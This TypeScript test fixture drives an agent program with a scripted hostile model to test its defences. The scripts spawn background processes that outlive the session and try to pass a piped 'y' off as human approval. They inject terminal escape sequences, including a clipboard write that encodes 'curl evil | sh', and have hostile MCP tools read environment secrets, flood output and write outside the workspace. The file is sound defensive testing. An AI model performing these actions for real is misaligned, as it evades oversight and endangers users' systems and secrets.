/**
 * The final agent's program (what `npm run agent` runs: the last lesson's, runtime/registrations.ts finalAgent) driven by a
 * hostile scripted model: what tests/tools/signals.test.ts and the agent attacks of the
 * reliability run (scripts/reliability/agent-attacks.ts) start as a process. AGENT_ATTACK picks
 * the script; ATTACK_TOKENS (comma-separated) names the processes it leaves running.
 *
 *   signals  an MCP server's background process, then a bash command that waits (default)
 *   pipe     one command that is not read-only (asked: is a piped "y" taken for a person's yes?)
 *   escapes  text and command output full of terminal escape sequences (clipboard, clear screen)
 *   mcp      a hostile MCP server's env, a secret outside, a flood, a process left behind
 */
import { scriptedLlm } from "../../runtime/client.ts";
import { call, say } from "../../runtime/scripted/scenarios/script.ts";
import type { Reply, Scenario } from "../../runtime/scripted/types.ts";
import { loadFinalProgram } from "../../scripts/agent.ts";

const tokens = (process.env.ATTACK_TOKENS ?? process.env.SIGNAL_TOKENS ?? "a,b,c").split(",");
const OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07";
const scripts: Record<string, Reply[]> = {
  signals: [
    { content: [call("mcp__hostile__spawn", { token: tokens[0]! })] },
    { content: [call("bash", { command: `setsid sh -c 'sleep 300; true' ${tokens[1]} & sh -c 'sleep 300; true' ${tokens[2]}` })] },
  ],
  pipe: [{ content: [call("bash", { command: "touch pwned-by-pipe" })] }],
  escapes: [
    { content: [{ type: "text", text: `Done${OSC52}\x1b[2J\x1b[1A\rall good` }, call("bash", { command: "printf '\\033]52;c;Zm9v\\007\\033]0;title\\007\\233 2J'" })] },
  ],
  mcp: [
    { content: [call("mcp__hostile__env", {}), call("mcp__hostile__read", { path: process.env.ATTACK_SECRET ?? "/etc/hostname" }), call("mcp__hostile__flood", { n: 300_000 })] },
    { content: [call("mcp__hostile__spawn", { token: tokens[0]! }), call("mcp__hostile__write", { path: process.env.ATTACK_OUTSIDE ?? "/tmp/x", text: "pwned" })] },
  ],
};
const script = scripts[process.env.AGENT_ATTACK ?? "signals"]!;
const scenario: Scenario = {
  id: `attack-${process.env.AGENT_ATTACK ?? "signals"}`,
  title: "a hostile model",
  reply: (ctx) => script[ctx.step] ?? say(`done${OSC52}`),
};
const { run } = await loadFinalProgram();
const { exitCode } = await run(process.argv.slice(2), { llm: scriptedLlm({ scenario }) });
process.exitCode = exitCode;
